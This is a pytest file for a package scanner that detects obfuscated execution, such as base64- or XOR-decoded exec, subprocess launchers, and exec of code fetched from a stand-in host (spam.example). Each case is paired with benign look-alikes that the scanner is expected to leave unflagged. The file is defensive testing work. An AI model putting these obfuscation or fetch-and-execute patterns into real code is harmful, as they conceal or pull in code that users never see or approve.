"""Code that runs what it hides: each shape beside an honest twin."""

from __future__ import annotations

import base64

import pytest

from affineur.core.archives import ArchiveReport
from affineur.core.findings import Severity
from support.scanning import Scan, signals_of

HIDDEN = base64.b64encode(b"print('a program that is not to be read')").decode()

SHIFTED = """\
key = 7
out = ''
for n in [119, 117, 110, 105, 115, 47, 54, 46, 44, 119, 117, 110]:
    out += chr(n ^ key)
exec(out)
"""
STARTED = f"""\
import sys, subprocess
CODE = "import base64; exec(base64.b64decode('{HIDDEN}'))"
subprocess.Popen([sys.executable, '-c', CODE])
"""


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            f"import base64\nexec(base64.b64decode('{HIDDEN}'))\n",
            [("decode-and-execute", Severity.BLOCK, 2)],
        ),
        (
            f"import base64\n\n\ndef f():\n    exec(base64.b64decode('{HIDDEN}'))\n",
            [("decode-and-execute", Severity.REVIEW, 5)],
        ),
        (
            f"from base64 import b64decode as d\nrun = exec\nrun(d('{HIDDEN}'))\n",
            [("decode-and-execute", Severity.BLOCK, 3)],
        ),
        (
            SHIFTED,
            [("decode-and-execute", Severity.BLOCK, 5)],
        ),
        (
            STARTED,
            [("decode-and-execute", Severity.BLOCK, 3)],
        ),
        (
            "f = getattr(__builtins__, 'ev' + 'al')\n",
            [("hidden-name", Severity.REVIEW, 1)],
        ),
        (
            "import requests\nexec(requests.get('https://spam.example/x').text)\n",
            [("fetch-and-execute", Severity.BLOCK, 2)],
        ),
    ],
)
def test_code_that_hides_what_it_runs_is_found_in_its_line(
    scan: Scan, source: str, expected: list[tuple[str, Severity, int]]
) -> None:
    assert signals_of(scan({"spam/__init__.py": source})) == expected


@pytest.mark.parametrize(
    "source",
    [
        f"import base64\nPICTURE = base64.b64decode('{HIDDEN}')\nexec('x = 1')\n",
        "import marshal\n\n\ndef load(f):\n    exec(marshal.load(f))\n",
        "import builtins\nrun = getattr(builtins, 'exec')\n",
        "import requests\n\n\ndef page(u):\n    return requests.get(u).text\n\n\nexec('x')\n",
        "def make(name):\n    exec('def ' + name + '(): pass')\n",
        "import base64\n\n\ndef load(t):\n    return base64.b64decode(t)\n\n\nexec('a' + 'b')\n",
    ],
)
def test_honest_code_with_the_same_words_is_not_flagged(scan: Scan, source: str) -> None:
    assert signals_of(scan({"spam/__init__.py": source})) == []


def test_a_chain_split_over_three_modules_is_found_where_it_runs(scan: Scan) -> None:
    report = scan(
        {
            "spam/__init__.py": "from . import run\n",
            "spam/data.py": f"BLOB = '{HIDDEN}'\n",
            "spam/codec.py": "import base64\n\n\ndef plain(t):\n    return base64.b64decode(t)\n",
            "spam/run.py": "from .codec import plain\nfrom .data import BLOB\nexec(plain(BLOB))\n",
        }
    )

    assert [(one.rule, one.where.file, one.where.line) for one in report.scan.signals] == [
        ("decode-and-execute", "spam/run.py", 3)
    ]


def test_tests_weigh_one_level_less(scan: Scan) -> None:
    source = "import requests\nexec(requests.get('https://spam.example/x').text)\n"

    report = scan({"spam/tests/test_it.py": source})

    assert signals_of(report) == [("fetch-and-execute", Severity.INFO, 2)]


def test_the_anchor_of_a_signal_does_not_depend_on_lines(scan: Scan) -> None:
    source = f"import base64\n\n\ndef f():\n    exec(base64.b64decode('{HIDDEN}'))\n"

    def anchor(report: ArchiveReport) -> str:
        return report.scan.signals[0].anchor

    first = scan({"spam/__init__.py": source})
    moved = scan({"spam/__init__.py": f"x = 1\n\n{source}"})
    changed = scan({"spam/__init__.py": source.replace("def f():", "def f(a):")})

    assert anchor(first) == anchor(moved) != anchor(changed)


def test_code_for_python_2_is_told_as_unread(scan: Scan) -> None:
    report = scan({"spam/__init__.py": "print 'x'\nexec 'y'.decode('rot13')\nexec(chr(9))\n"})

    assert report.scan.unread == (("spam/__init__.py", "it is written for Python 2"),)


def test_a_part_that_is_too_much_to_follow_does_not_hide_the_next(scan: Scan) -> None:
    padding = "def f(n):\n    for a in g(n):\n" + "        n = n + a + n * a\n" * 9000
    source = f"import base64\n{padding}f(1)\nexec(base64.b64decode('{HIDDEN}'))\n"

    report = scan({"spam/__init__.py": source})

    assert signals_of(report) == [("decode-and-execute", Severity.BLOCK, 9005)]
    assert report.scan.unread == (
        ("spam/__init__.py", "it takes too many steps to follow all of it"),
    )
